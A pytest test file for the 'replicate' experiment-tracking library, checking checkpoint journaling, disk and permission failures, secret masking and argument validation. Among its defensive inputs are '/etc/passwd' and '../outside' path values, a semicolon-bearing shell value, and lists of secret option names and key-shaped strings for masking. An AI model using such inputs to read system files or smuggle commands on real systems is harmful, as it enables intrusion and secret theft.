        assert 1 <= len(messages_of(stopping)) <= 2 and after == ""  # the journal and the document, once each
    else:
        assert numbers == list(range(201 if then == "room and a checkpoint" else 200))
        assert messages_of(stopping) == []
        assert names_in(small_disk / "repo/journals") == []
    assert names_in(small_disk / "repo/tmp") == names_in(small_disk / "repo/metadata/heartbeats") == []
    saved = [item["id"] for item in document["checkpoints"] if item["path"]]
    assert names_in(small_disk / "repo/checkpoints") == sorted(item + ".tar.gz" for item in saved)
    for item in saved:
        assert DiskPlace(small_disk / "repo").files("checkpoints", item) == {"weights": (small_disk / "weights").read_bytes()}


def test_what_no_journal_could_take_comes_into_the_document_at_stop(repo):
    done = train("""
        experiment.checkpoint(metrics={"n": 0}, quiet=True)
        experiment.stop()
        os.rename("repo/journals", "elsewhere")
        open("repo/journals", "w").close()
        experiment.checkpoint(metrics={"n": 1}, quiet=True)
        os.unlink("repo/journals")
        os.rename("elsewhere", "repo/journals")
        """)
    assert len(messages_of(done.stderr)) >= 1 and "Traceback" not in done.stderr
    assert [item["metrics"]["n"] for item in stored_documents(repo)[0]["checkpoints"]] == [0, 1]


def test_a_file_size_limit(project, repo):
    """As a quota or RLIMIT_FSIZE sets it: the large file is refused, then the document; then the limit is lifted."""
    done = run_script(LIMITS_FILE_SIZES + """
    open("large", "wb").write(os.urandom(300000))
    open("small", "wb").write(os.urandom(3000))
    experiment = replicate.init(path="small", quiet=True)
    limit(50000)
    experiment.checkpoint(path="large", metrics={"n": 0})
    experiment.checkpoint(path="small", metrics={"n": 1}, quiet=True)
    for number in range(2, 1500):
        experiment.checkpoint(metrics={"n": number}, quiet=True)
    limit(resource.RLIM_INFINITY)
    experiment.checkpoint(path="large", metrics={"n": 1500}, quiet=True)
    experiment.stop()
    print("end")
    """)
    assert done.stdout == "end\n" and "Traceback" not in done.stderr
    errors = messages_of(done.stderr)
    assert "File too large" in errors[0] and "The rest of it was recorded" in errors[0]
    document, = stored_documents(repo)
    assert [item["metrics"]["n"] for item in document["checkpoints"]] == list(range(1501))
    assert [item["path"] for item in document["checkpoints"][:2]] == [None, "small"]
    assert document["checkpoints"][1500]["path"] == "large" and len(names_in(repo / "checkpoints")) == 2
    assert names_in(repo / "journals") == names_in(repo / "tmp") == []


@pytest.mark.parametrize("end, code", [("sys.exit(3)", 3), ("experiment.stop()", 0)])
def test_nothing_is_claimed_that_is_not_written_and_what_is_lost_is_counted(project, repo, end, code):
    done = run_script(LIMITS_FILE_SIZES + """
    experiment = replicate.init(quiet=True)
    limit(0)
    for number in range(5):
        experiment.checkpoint(path="missing", metrics={"n": number}, quiet=True)
    print(experiment.short_id())
    exec(sys.argv[1])
    """, end, check=False)
    assert done.returncode == code and "Traceback" not in done.stderr
    assert "was recorded" not in done.stderr and done.stderr.count("waits in memory") == 5
    assert "5 checkpoints of experiment %s could not be written" % done.stdout.strip() in done.stderr
    assert [item["checkpoints"] for item in stored_documents(repo)] == [[]]
    listing = run("ls", "-q")
    assert listing.returncode == 0 and listing.stderr == ""


def test_init_that_fails_half_way_leaves_no_files_behind(project, repo):
    (project / "small").write_text("code")
    done = run_script(LIMITS_FILE_SIZES + """
    limit(20000)
    try:
        replicate.init(path="small", params={"much": "x" * 30000}, quiet=True)
    except replicate.WriteError as error:
        print(error)
    """)
    assert "File too large" in done.stdout
    assert [name for name in tree(repo) if name != "repository.json"] == []


@pytest.mark.parametrize("reason", ["can't start new thread", "the process is ending"])
def test_init_without_a_thread_to_spare_or_at_the_end_is_an_error(project, repo, monkeypatch, reason):
    def start(self):
        raise RuntimeError(reason)
    (project / "small").write_text("code")
    with monkeypatch.context() as limited:
        if "thread" in reason:
            limited.setattr(threading.Thread, "start", start)
        else:
            limited.setattr(replicate.termination, "ending", True)
        with pytest.raises(replicate.WriteError, match="Recording cannot start: %s" % reason):
            replicate.init(path="small", quiet=True)
    assert [name for name in tree(repo) if name != "repository.json"] == []


@pytest.fixture
def shared_project():
    """A project directory that other users can reach (pytest's are private)."""
    import tempfile
    if not hasattr(os, "getuid") or os.getuid() != 0:
        pytest.skip("only root can become another user")
    directory = Path(tempfile.mkdtemp(prefix="replicate-test-", dir="/tmp"))
    directory.chmod(0o755)
    (directory / "replicate.yaml").write_text("repository: file://repo\n")
    yield directory
    shutil.rmtree(str(directory))


BECOMES_NOBODY = """
        import argparse, atexit, datetime, difflib, errno, fcntl, getpass, hashlib, json, locale, os, platform, pwd, queue, re, shlex
        import shutil, signal, stat, sys, tarfile, tempfile, textwrap, time, traceback, zlib  # while they can be read
        import concurrent.futures, encodings.idna, encodings.unicode_escape, subprocess, replicate
        platform.uname()
        os.environ["HOME"] = "/nonexistent"
        replicate.find_location()
        replicate.masked_command(["x"])
        os.setgid(65534)
        os.setuid(65534)
"""


def test_a_repository_that_may_only_be_read(shared_project):
    repo = shared_project / "repo"
    write_repository(repo, experiment_document(A))
    fill(repo, {"journals/%s.00.jsonl" % A: json.dumps({"checkpoint": checkpoint_document(C)}).encode()})
    before = tree(repo)
    done = run_script(BECOMES_NOBODY + """
        print(len(replicate.experiments.list()[0].checkpoints), replicate.main(["ls"]), replicate.main(["rm", "-f", "1e"]))
        try:
            replicate.init(quiet=True)
        except replicate.WriteError as error:
            print(error)
        """, cwd=str(shared_project))
    assert done.stdout.splitlines()[-2].startswith("1 0 1")
    assert "cannot be written: Permission denied" in done.stdout.splitlines()[-1]
    assert "cannot be removed" in done.stderr and "Traceback" not in done.stderr
    assert tree(repo) == before


def test_what_another_user_has_still_to_upload_is_no_obstacle(s3_bucket, project, shared_project, call):
    (project / "model.bin").write_bytes(b"1")
    with replicate.init(path="model.bin", quiet=True) as experiment:
        pass
    replicate.make_private_folder(replicate.pending_repository(str(shared_project), s3_bucket.url).storage.root)
    (shared_project / "out").mkdir()
    (shared_project / "out").chmod(0o777)
    place = ["-D", shared_project, "-R", s3_bucket.url]
    os.setresuid(65534, 65534, 0)
    try:
        results = call("ls", *place), call("checkout", "-f", "-o", shared_project / "out", experiment.id, *place)
    finally:
        os.setresuid(0, 0, 0)
    assert [code for code, _, _ in results] == [0, 0] and results[0][2] == "", results


def test_a_repository_that_becomes_read_only_while_recording(shared_project):
    repo = shared_project / "repo"
    repo.mkdir()
    os.chown(str(repo), 65534, 65534)
    done = run_script(BECOMES_NOBODY + """
        experiment = replicate.init(quiet=True)
        experiment.checkpoint(metrics={"n": 0}, quiet=True)
        while not replicate.Repository("file://" + os.path.abspath("repo")).storage.read(
                "metadata/experiments/%s.json" % experiment.id).count(b'"n": 0') or os.listdir("repo/journals"):
            time.sleep(0.01)
        folders = ["repo/" + name for name in ("journals", "tmp", "metadata/experiments", "metadata/heartbeats")]
        for folder in folders:
            os.chmod(folder, 0o555)
        for number in range(1, 4):
            experiment.checkpoint(metrics={"n": number}, quiet=True)
        experiment.stop()
        print("stopped", flush=True)
        for folder in folders:
            os.chmod(folder, 0o755)
        experiment.checkpoint(metrics={"n": 4}, quiet=True)
        experiment.stop()
        """, cwd=str(shared_project))
    assert done.stdout == "stopped\n" and "Traceback" not in done.stderr and "Permission denied" in done.stderr
    numbers = [item["metrics"]["n"] for item in stored_documents(repo)[0]["checkpoints"]]
    assert numbers[0] == 0 and numbers[-1] == 4


@pytest.mark.parametrize("size", [10, 3000, 400000, 12000000])
@pytest.mark.parametrize("how", ["overwrite", "append", "truncate", "delete", "replace"])
def test_a_checkpoint_is_a_snapshot(project, size, how):
    content = (b"%08d" % size) * (size // 8 + 1)
    fill(project, {"model": content, "new": b"new"})
    experiment = replicate.init(quiet=True)
    checkpoint = experiment.checkpoint(path="model", quiet=True)
    if how == "delete":
        os.unlink("model")
    elif how == "replace":
        os.replace("new", "model")
    else:
        with open("model", {"overwrite": "r+b", "append": "ab", "truncate": "wb"}[how]) as file:
            file.write(b"" if how == "truncate" else b"\0" * len(content))
    assert checkpoint.open("model").read() == content
    experiment.stop()
    assert checkpoint.open("model").read() == content


def test_ten_thousand_checkpoints_cost_in_proportion(repo, monkeypatch):
    if not os.path.exists("/proc/self/io"):
        pytest.skip("needs /proc/self/io to count the bytes written")

    def bytes_written():
        return int(re.search("wchar: (.*)", Path("/proc/self/io").read_text()).group(1))

    keys, write = [], replicate.DiskStorage.write
    monkeypatch.setattr(replicate.DiskStorage, "write", lambda self, key, data: keys.append(key) or write(self, key, data))
    size, start = -bytes_written(), time.monotonic()
    with replicate.init(params={"x": 1}, quiet=True) as experiment:
        for number in range(10000):
            experiment.checkpoint(metrics={"loss": 1 / (number + 1)}, primary_metric=("loss", "minimize"), quiet=True)
    size, seconds = size + bytes_written(), time.monotonic() - start
    document, = stored_documents(repo)
    found = [(item["step"], item["metrics"]["loss"]) for item in document["checkpoints"]]
    assert found == [(number, 1 / (number + 1)) for number in range(10000)]
    assert len({item["id"] for item in document["checkpoints"]}) == 10000
    writings = len([key for key in keys if "experiments/" in key])
    assert writings <= 5 + seconds
    assert size <= (repo / "metadata/experiments" / (document["id"] + ".json")).stat().st_size * (2 + 0.6 * writings)
    assert names_in(repo / "journals") == names_in(repo / "tmp") == []


@pytest.mark.parametrize("name", ["token", "api-key", "password", "passwd", "secret", "secret-key", "access-key",
                                  "access-token", "auth-token", "api-token", "hf-token", "client-secret"])
def test_the_values_of_secret_options_are_masked(name):
    for option in {name, name.replace("-", "_")}:
        masked = replicate.masked_command(["t.py", "--" + option, "hunter two", "x"])
        assert masked in ("t.py --%s '***' x" % option, "t.py --%s *** x" % option)
        assert "hunter" not in replicate.masked_command(["t.py", "--%s=hunter two" % option])
        assert replicate.masked_command(["t.py", "--%s=hunter" % option, "b"]) == "t.py --%s=*** b" % option
        assert "hunter" not in replicate.masked_command(["--" + option.upper(), "hunter"])
        assert "hunter" not in replicate.masked_command(["--" + option, "-hunter"])


@pytest.mark.parametrize("arguments", [["--pad-token", "0"], ["--pad-token=0"], ["--eos_token=</s>"], ["--tokenizer", "x"],
                                       ["--token-count=5"], ["--secretary", "bob"], ["--max-tokens", "100"],
                                       ["a b", "it's", "", "$HOME", "--x=a;b", "é"], ["--no-password-check", "y"]])
def test_other_arguments_are_quoted_as_a_shell_reads_them(arguments):
    command = replicate.masked_command(["train.py"] + arguments)
    assert shlex.split(command) == ["train.py"] + arguments and "***" not in command


@pytest.mark.parametrize("secret", ["AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", "hf_" + "aB3" * 11, "ghp_" + "x1" * 18,
                                    "gho_" + "x1" * 18, "sk-" + "a1B" * 16, "sk-proj-" + "a-1_" * 10,
                                    "github_pat_" + "a1_" * 20])
def test_words_of_the_shape_of_keys_are_masked_and_such_params_draw_a_warning(project, repo, capsys, secret):
    for argument in (secret, "--config=" + secret, "key=%s,b=1" % secret, "a b " + secret):
        command = replicate.masked_command(["train.py", argument, "--lr", "0.1"])
        assert secret not in command and secret[-8:] not in command and "***" in command and command.endswith("--lr 0.1")
    replicate.init(params={"fine": "skate-board", "mine": secret, "deep": [{"er": secret}]}, quiet=True)
    err = capsys.readouterr().err
    assert err.count("\n") == 2 and "'mine'" in err and "'deep'" in err and "secret" in err and secret not in err
    assert stored_documents(repo)[0]["params"]["mine"] == secret


def test_the_command_of_a_real_run_and_of_a_process_that_multiprocessing_started(project):
    fill(project, {"sub/train.py": b"import replicate\nreplicate.init(quiet=True)\n", "spawns.py": textwrap.dedent("""
        import multiprocessing, replicate
        if __name__ == "__main__":
            process = multiprocessing.get_context("spawn").Process(target=replicate.init, kwargs={"quiet": True})
            process.start()
            process.join()
        """).encode()})
    for program, cwd in (("train.py", "sub"), (str(project / "sub/train.py"), "."), ("spawns.py", ".")):
        subprocess.run([sys.executable, program, "--lr", "0.1", "--api-key", "hunter2", "two words", "--pad-token=1"],
                       cwd=str(project / cwd), check=True, timeout=60)
    found, arguments = replicate.experiments.list(), " --lr 0.1 --api-key *** 'two words' --pad-token=1"
    assert [item.command for item in found] == [name + arguments for name in ("train.py", "sub/train.py", "spawns.py")]
    assert [item.full_command.partition(".py")[2] for item in found] == [arguments] * 3
    assert b"hunter2" not in b"".join(tree(project / "repo").values())


@pytest.mark.parametrize("words, cwd, shown", [
    *((words, "", words) for words in (
        "python train.py", "python -u -X dev ./train.py", "bin/python train.py", "python -m pkg.mod", "python -m pkg",
        "python bin/torchrun --nproc=2 train.py", "torchrun --nproc=2 train.py", "train")),
    ("{bin}/python {project}/train.py", "", "python train.py"), ("nice python train.py", "", "python train.py"),
    ("python train.py", "pkg/sub", "cd pkg/sub && python train.py"),
    ("python {project}/train.py", "pkg", "cd pkg && python {project}/train.py"),
    ("torchrun --token=hunter2 -m pkg.mod", "", "torchrun --token=*** -m pkg.mod"),
    ("sh -c 'true; python train.py \"$@\"' sh", "", "python train.py")])
def test_the_printed_command_can_be_pasted(project, repo, monkeypatch, call, words, cwd, shown):
    if sys.platform != "linux" and words.startswith("torchrun"):
        pytest.skip("only Linux tells the command line of the parent process")
    names = ["train.py", "pkg/mod.py", "pkg/__main__.py", "pkg/sub/train.py", "bin/train"]
    fill(project, dict.fromkeys(names, textwrap.dedent("""\
        #!/usr/bin/env python3
        import os, sys, replicate
        arguments = sys.argv[1:]
        del sys.argv[2:]
        if __name__ == "__main__":
            replicate.init(params={"arguments": arguments, "cwd": os.getcwd()}, quiet=True)
        """).encode()))
    (project / "bin/torchrun").write_text(textwrap.dedent("""\
        #!%s
        import os, subprocess, sys
        number = next(number for number, word in enumerate(sys.argv) if number and (word == "-m" or not word.startswith("-")))
        sys.exit(subprocess.call([sys.executable, "-u"] + sys.argv[number:]))
        """) % (project / "bin/python"))
    for name in ("train", "torchrun"):
        (project / "bin" / name).chmod(0o755)
    for name in ("python", "python3"):
        (project / "bin" / name).symlink_to(os.path.realpath(sys.executable))
    monkeypatch.setenv("PATH", "%s:%s" % (project / "bin", os.environ["PATH"]))
    places = {"bin": str(project / "bin"), "project": str(project)}
    arguments = ["3", "two words", "it's", "$HOME", ""]
    subprocess.run(shlex.split(words.format(**places)) + arguments, cwd=str(project / cwd), check=True, timeout=60)
    experiment, = replicate.experiments.list()
    assert experiment.params == {"arguments": arguments, "cwd": str(project / cwd)}
    assert experiment.full_command == shown.format(**places) + " 3 'two words' 'it'\"'\"'s' '$HOME' ''"
    assert ("Command:         %s\n" % experiment.full_command) in call("show", experiment.id)[1]
    subprocess.run(experiment.full_command, shell=True, cwd=str(project), check=True, timeout=60)
    assert [item.params for item in replicate.experiments.list()] == [experiment.params] * 2


def test_a_program_without_a_command_line_has_no_command_to_paste(project, repo, call):
    run_script("import replicate; replicate.init(quiet=True)")
    subprocess.run([sys.executable, "-"], input=b"import replicate; replicate.init(quiet=True)", check=True, timeout=60)
    first, second = replicate.experiments.list()
    assert (first.full_command, second.full_command) == (first.command, second.command) == ("-c", "-")
    assert replicate.Experiment(experiment_document(A, full_command={"not": "text"})).full_command == "train.py"


class Hostile:
    """An object that fails at whatever is tried with it."""

    def __getattribute__(self, name):
        raise RuntimeError("no " + name)

    def __repr__(self):
        raise RuntimeError("no repr")

    __eq__ = __str__ = __bool__ = __len__ = __iter__ = __hash__ = __repr__


class BadArray:
    """What a tensor without data is: it has the method, and the method fails."""

    def tolist(self):
        raise NotImplementedError("Cannot copy out of meta tensor; no data!")


def deep_list(depth):
    value = 1
    for _ in range(depth):
        value = [value]
    return value


LOOP = []
LOOP.append(LOOP)
WRONG_ARGUMENTS = [("step", value, "step") for value in (
    "three", 1.5, 4.5, float("inf"), True, 1 << 70, [], BadArray(), Hostile())]
WRONG_ARGUMENTS += [("primary_metric", value, "primary_metric") for value in (
    "loss", ("loss", "up"), ("loss",), (1, "minimize"), ("loss", Hostile()), Hostile(), ("", "minimize"), ("loss", []))]
WRONG_ARGUMENTS += [("path", value, words) for value, words in [
    ("missing.pth", "missing.pth"), ("", "path is empty"), (5, "path"), (b"model", "path"), ("a\0b", "path"), ("fifo", "fifo"),
    ("../outside", "outside"), ("/etc/passwd", "outside"), (".git", "never saved"), ("empty", "empty"), (Hostile(), "")]]
WRONG_ARGUMENTS += [("metrics", {"good": 1, name: value}, words) for name, value, words in [
    ("bad", object(), "bad"), (5, 1, "5"), (("a", "b"), 1, "a"), ("bad", BadArray(), ""), ("bad", Hostile(), ""),
    ("bad", {1, 2}, "bad"), ("bad", Decimal("sNaN"), "bad"), ("bad", 10 ** 5000, "bad"), ("bad", b"x", "bad"),
    ("bad", deep_list(60), "deep"), ("bad", deep_list(100000), "deep"), ("bad", LOOP, "deep"), ("bad", {"a": LOOP}, "deep")]]
WRONG_ARGUMENTS += [("metrics", value, "metrics") for value in ([1], 5, "loss", Hostile())]


@pytest.mark.parametrize("name, value, words", WRONG_ARGUMENTS,
                         ids=["%s-%d" % (case[0], number) for number, case in enumerate(WRONG_ARGUMENTS)])
def test_wrong_arguments_never_raise_and_the_rest_is_recorded(project, repo, capsys, name, value, words):
    fill(project, {".git/config": b"x", "model": b"weights", "../outside": b"x"})
    (project / "empty").mkdir()
    os.mkfifo(str(project / "fifo"))
    experiment = replicate.init(quiet=True)
    capsys.readouterr()
    arguments = {"path": "model", "step": 7, "metrics": {"good": 1}, "primary_metric": ("good", "minimize")}
    checkpoint = experiment.checkpoint(quiet=True, **dict(arguments, **{name: value}))
    message = capsys.readouterr().err
    assert message.startswith("═══╡ Checkpoint %s: " % checkpoint.short_id()) and words in message
    assert "formatting" not in message and "The rest of it was recorded" in message
    experiment.stop()
    stored, = stored_documents(repo)[0]["checkpoints"]
    expected = dict(arguments, id=checkpoint.id, primary_metric={"name": "good", "goal": "minimize"})
    good = {"good": 1} if type(value) is dict else {}
    expected[name] = {"path": None, "step": 0, "primary_metric": None, "metrics": good}[name]
    assert {key: stored[key] for key in expected} == expected
    assert len(names_in(repo / "checkpoints")) == (name != "path")
    assert experiment.checkpoint(metrics={"next": 1}, quiet=True).step == stored["step"] + 1


def test_metrics_may_change_while_they_are_read(repo):
    """As in another thread."""
    class Number(float):
        def __float__(self):
            metrics["late"] = 2
            return 1.0
    metrics = {"early": Number(1)}
    experiment = replicate.init(quiet=True)
    assert experiment.checkpoint(metrics=metrics, quiet=True).metrics == {"early": 1.0} and len(metrics) == 2


def test_an_unknown_keyword_of_checkpoint_is_an_error_message_and_the_rest_is_recorded(project, repo, capsys):
    (project / "model").write_text("weights")
    with replicate.init(quiet=True) as experiment:
        experiment.checkpoint(path="model", metrics={"a": 1}, step=3, lose=0.1, metric={"b": 2}, quiet=True)
    first, second = messages_of(capsys.readouterr().err)
    assert "'lose'" in first and "metrics={'lose': ...}" in first and "'metric'." in second and "Did you mean 'metrics'?" in second
    stored, = stored_documents(repo)[0]["checkpoints"]
    assert (stored["path"], stored["metrics"], stored["step"]) == ("model", {"a": 1}, 3)
    assert "step: 'Optional[int]' = None" in str(inspect.signature(experiment.checkpoint))


@pytest.mark.parametrize("step", [4, 4.0, Decimal(4), Fraction(4), "numpy.float32", "numpy.array", "numpy.int8"])
def test_a_step_may_be_a_whole_number_of_any_kind(repo, capsys, step):
    if isinstance(step, str):
        step = getattr(pytest.importorskip("numpy"), step.partition(".")[2])(4.0)
    with replicate.init(quiet=True) as experiment:
        experiment.checkpoint(step=step, metrics=Mapped(a=Decimal("0.1"), b=Fraction(3, 2), c=Decimal("NaN")), quiet=True)
    assert capsys.readouterr().err == ""
    stored, = stored_documents(repo)[0]["checkpoints"]
    assert type(stored["step"]) is int and (stored["step"], stored["metrics"]) == (4, {"a": 0.1, "b": 1.5, "c": "[NaN]"})


@pytest.mark.parametrize("arguments", [
    *({"params": value} for value in ([1], "x", 5, object(), Layer, Hostile())),
    *({"path": value} for value in ("", 5, "missing", "..", "/", "../other", b"x", "a\0b", ".git", True)),
    *({"name": value} for value in ("", "a\nb", 5, "cafe", "12", "x" * 101)),
    *({"tags": value} for value in ("one", 5, [5], [""], ["\x1b"])), {"note": 5}, {"resume": 5}, {"resume": ""},
    {"keep_best": -1}, {"keep_best": True}, {"keep_latest": "2"}])
def test_wrong_arguments_to_init_raise_and_leave_nothing(project, capsys, arguments):
    (project / ".git").mkdir()
    (project.parent / "other").mkdir()
    for _ in range(2):
        before = snapshot(project)
        with pytest.raises(replicate.ArgumentError, match="keep_best=3" if "keep" in next(iter(arguments)) else None):
            replicate.init(**arguments)
        assert snapshot(project) == before and replicate._recorders == [] and capsys.readouterr().err == ""
        (project / "replicate.yaml").unlink(missing_ok=True)  # the second time no default repository is made either


EVERY_KIND = {"t": [1, [2]], "p": "a/b", "e": 3, "s": "red", "u": "ü\u2028\ud800", "None": "None",
              "k": {"1": 2, "1.5": None}, "big": 2 ** 70, "tiny": 5e-324, "neg": -0.0, "": 0, "[NaN]": "x"}


@pytest.mark.parametrize("params, plain", [
    (argparse.Namespace(a=1, b={Shade.DARK, Shade.DARK}), {"a": 1, "b": ["DARK"]}),
    (Layer(1, Shade.DARK), {"size": 1, "inner": "DARK"}), (Duck(), {"a": ["a"]}),
    (types.SimpleNamespace(a=(1, 2)), {"a": [1, 2]}), (types.MappingProxyType({"a": Mapped(b=utc)}), {"a": {"b": "utc"}}),
    (Mapped(a=1, b=Layer(2)), {"a": 1, "b": {"size": 2, "inner": None}}),
    (dict(EVERY_KIND, t=(1, (2,)), p=Path("a/b"), e=Rate.LOW, s=Tint.RED, k={1: 2, 1.5: None}), EVERY_KIND)],
    ids=lambda params: type(params).__name__)
def test_params_may_be_anything_that_is_like_a_dict_with_every_kind_of_value(repo, capsys, params, plain):
    replicate.init(params=params, quiet=True).stop()
    assert capsys.readouterr().err == "" and replicate.experiments.list()[0].params == plain
    assert run("ls", "--all").returncode == 0


def test_params_without_a_plain_form_are_recorded_as_text_with_one_warning(repo, capsys):
    class Missing(Mapped):
        def __getitem__(self, key):
            raise KeyError("Missing mandatory value")

    class Long:
        def __str__(self):
            return "x" * 5000

    params = {"fine": 1, "object": object(), "list": [b"x", 1j], "map": {"er": Hostile()}, 5: BadArray(), "big": 10 ** 5000,
              "missing": Missing(a=1), "long": Long(), "deep": deep_list(60), "deeper": deep_list(100000), "loop": LOOP,
              "lambda": [len, lambda: 0]}
    replicate.init(params=params, quiet=True).stop()
    message, = messages_of(capsys.readouterr().err)
    for name in ("object (object)", "list (bytes)", "list (complex)", "map.er (Hostile)", "5 (BadArray)", "and 1 more"):
        assert name in message
    assert "fine" not in message and "lambda" not in message
    found = replicate.experiments.list()[0].params
    assert set(found) == {str(name) for name in params}
    assert (found["fine"], found["object"], found["list"]) == (1, "<object object>", ["b'x'", "1j"])
    assert "Hostile object" in found["map"]["er"] and "0x" not in found["map"]["er"] and len(found["long"]) == 1000
    assert found["loop"] == "[[...]]" and isinstance(found["deeper"], str) and found["lambda"] == ["len", "<lambda>"]
    assert run("ls", "--all").returncode == 0


def test_steps_count_on(repo):
    experiment = replicate.init(quiet=True)
    steps = [experiment.checkpoint(step=step, quiet=True).step for step in (None, None, 10, None, -5, None, 0, None)]
    assert steps == [0, 1, 10, 11, -5, -4, 0, 1]
    experiment.stop()
    assert [item["step"] for item in stored_documents(repo)[0]["checkpoints"]] == steps
    assert replicate.experiments.get(experiment.id).checkpoint(quiet=True).step == 2
    largest = (1 << 63) - 1  # beyond which the whole document is unreadable for the peer
    with replicate.init(quiet=True) as experiment:
        assert experiment.checkpoint(step=largest, quiet=True).step == largest
        assert experiment.checkpoint(quiet=True).step <= largest


def test_a_clock_that_is_set_back_does_not_reorder_checkpoints(repo, monkeypatch):
    experiment = replicate.init(quiet=True)
    experiment.checkpoint(metrics={"n": 0}, quiet=True)
    now = time.time()
    monkeypatch.setattr(replicate, "timestamp", lambda seconds=None, real=replicate.timestamp:
                        real(now - 3600 if seconds is None else seconds))
    for number in range(1, 50):
        experiment.checkpoint(metrics={"n": number}, quiet=True)
    assert experiment.latest().metrics == {"n": 49}
    created = [item.created for item in experiment.checkpoints]
    assert created == sorted(created) and len(set(created)) == 50


@pytest.mark.parametrize("full, warnings", [("both", 1), ("repo", 1), ("project", 0)])
def test_a_full_disk_is_told_once_and_is_that_of_the_repository(project, repo, monkeypatch, capsys, full, warnings):
    Usage = collections.namedtuple("Usage", "free")
    monkeypatch.setattr(shutil, "disk_usage", lambda path: Usage(
        5 if full in ("both", "repo" if path.startswith(str(repo)) else "project") else 1 << 50))
    fill(project, {"train.py": b"", "weights": b""})
    with replicate.init(path="train.py", quiet=True) as experiment:
        experiment.checkpoint(path="weights", quiet=True)
    assert capsys.readouterr().err.count("is nearly full") == warnings


def test_much_code_draws_one_warning_that_names_the_largest(project, repo, monkeypatch, capsys):
    fill(project, {"data.bin": bytes(3 << 20), "sub/weights.bin": bytes(5 << 20), "train.py": b"pass"})
    replicate.init(path=".", quiet=True)
    assert "saves" not in capsys.readouterr().err
    monkeypatch.setattr(replicate, "LARGE_CODE_BYTES", 4 << 20)
    replicate.init(path=".", quiet=True)
    line, = [line for line in capsys.readouterr().err.splitlines() if "saves" in line]
    assert ".replicateignore" in line and line.index("sub/weights.bin") < line.index("data.bin")
    (project / ".replicateignore").write_text("*.bin\n")
    replicate.init(path=".", quiet=True)
    assert "saves" not in capsys.readouterr().err


@pytest.mark.parametrize("size", [1000, 600000, 9000000])
def test_files_that_shrink_grow_or_vanish_while_they_are_saved(project, repo, monkeypatch, capsys, size):
    fill(project, {"files/" + name: name.encode() * size for name in "abcd"})
    check = replicate.warn_if_disk_is_low

    def spoil(*arguments):
        """Between finding the files and reading them."""
        os.truncate("files/a", size // 3)
        os.unlink("files/d")
        with open("files/c", "ab") as file:
            file.write(b"more")
        check(*arguments)

    with replicate.init(quiet=True) as experiment:
        monkeypatch.setattr(replicate, "warn_if_disk_is_low", spoil)
        checkpoint = experiment.checkpoint(path="files", metrics={"x": 1}, quiet=True)
        message, = messages_of(capsys.readouterr().err)
        assert "files/d is not saved" in message
        with pytest.raises(replicate.DoesNotExist):
            checkpoint.open("files/d")
    assert DiskPlace(repo).files("checkpoints", checkpoint.id) == {
        "files/a": b"a" * (size // 3), "files/b": b"b" * size, "files/c": b"c" * size + b"more"}
    assert stored_documents(repo)[0]["checkpoints"][0]["metrics"] == {"x": 1}


@pytest.mark.parametrize("trouble", ["sys.stderr.close()", "sys.stderr = None", "os.dup2(os.open('/dev/full', os.O_RDWR), 2)"])
def test_nothing_on_stderr_can_break_training(repo, trouble):
    done = run_script("""
        import os, sys, replicate
        exec(sys.argv[1])
        with replicate.init() as experiment:
            experiment.checkpoint(path="missing", metrics={"n": 1})
        print("end")
        """, trouble, check=False)
    assert done.stdout == "end\n" and len(stored_documents(repo)[0]["checkpoints"]) == 1


def test_a_ctrl_c_at_exit_leaves_the_rest_to_the_next_command(project, repo, training):
    """Compression of the last file is cut short; the file is whole and readable."""
    (project / "model").write_bytes(os.urandom(1 << 16) * 40 + b"0123456789abcdef" * (4 << 20))
    script = training("""
        print(experiment.checkpoint(path="model", metrics={"n": 1}, quiet=True).id, flush=True)
        print(experiment.checkpoint(metrics={"n": 2}, quiet=True).id, flush=True)
        print("ready", flush=True)
        """, prefix=TRAINING)
    ids = [script.expect("") for _ in range(3)][:2]
    until(lambda: names_in(repo / "tmp"))
    script.process.send_signal(signal.SIGINT)
    script.end(code=None)
    assert list(listed(repo).values()) == [ids]
    assert replicate.experiments.list()[0].checkpoints[0].open("model").read() == (project / "model").read_bytes()
    run("ls")
    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == ids
    assert names_in(repo / "journals") == []


# ------------------------------------------------------------------------------------------------------------------
# 9  Library
# ------------------------------------------------------------------------------------------------------------------

def test_a_run_from_beginning_to_end(project, repo, capsys):
    fill(project, {"train.py": b"print('hello')\n", "model.pth": b"first"})
    with replicate.init(path="train.py", params={"lr": 0.1, "layers": [1, 2], "none": None}) as experiment:
        first = experiment.checkpoint(path="model.pth", step=3, metrics={"loss": 0.5}, primary_metric=("loss", "minimize"))
        (project / "model.pth").write_bytes(b"second")
        second = experiment.checkpoint(path="model.pth", metrics={"loss": 0.7}, primary_metric=("loss", "minimize"))
    assert capsys.readouterr().err.splitlines() == [
        "═══╡ Recording experiment %s in file://%s (saved train.py)" % (experiment.short_id(), repo),
        "═══╡ Saved model.pth as checkpoint %s (step 3)" % first.short_id(),
        "═══╡ Saved model.pth as checkpoint %s (step 4)" % second.short_id()]
    (project / "train.py").write_text("changed")
    found = replicate.experiments.get(experiment.id[:8])
    assert found.params == {"lr": 0.1, "layers": [1, 2], "none": None} and found.path == "train.py"
    assert [item.step for item in found.checkpoints] == found.checkpoints.step == [3, 4]
    assert found.best().id == first.id and found.best().metrics[found.primary_metric()] == 0.5
    assert found == experiment and {found, experiment} == {experiment} and found.best() == first != second != found
    assert second in found.checkpoints and experiment in replicate.experiments.list() and first != first.id
    assert found.duration == second.created - experiment.created > datetime.timedelta(0)
    assert found.created.utcoffset() == datetime.timedelta(0)
    assert abs((datetime.datetime.now(datetime.timezone.utc) - found.created).total_seconds()) < 60
    assert first.open("model.pth").read() == b"first" and second.open("./model.pth").read() == b"second"
    with pytest.raises(replicate.DoesNotExist, match="There is no file nothing in checkpoint %s or " % first.short_id()):
        first.open("nothing")
    found.checkout("out", quiet=True)  # the best
    assert tree("out") == {"train.py": b"print('hello')\n", "model.pth": b"first"}
    found.checkpoints[1].checkout("out", quiet=True)
    assert tree("out")["model.pth"] == b"second"
    assert (project / "train.py").read_text() == "changed" and capsys.readouterr().err == ""


def test_list_is_in_order_of_time_and_takes_no_text(repo):
    write_repository(repo, experiment_document(hex_id("3e"), created="2006-01-02T00:00:00Z", params={"x": 1}),
                     experiment_document(hex_id("1e"), created="2006-01-02T02:00:00+03:00", params={"x": 2}),
                     experiment_document(hex_id("2e"), created="2006-01-02T00:00:00.000000001Z", params={"x": 3}))
    found = replicate.experiments.list()
    assert [item.short_id()[:2] for item in found] == ["1e", "3e", "2e"]
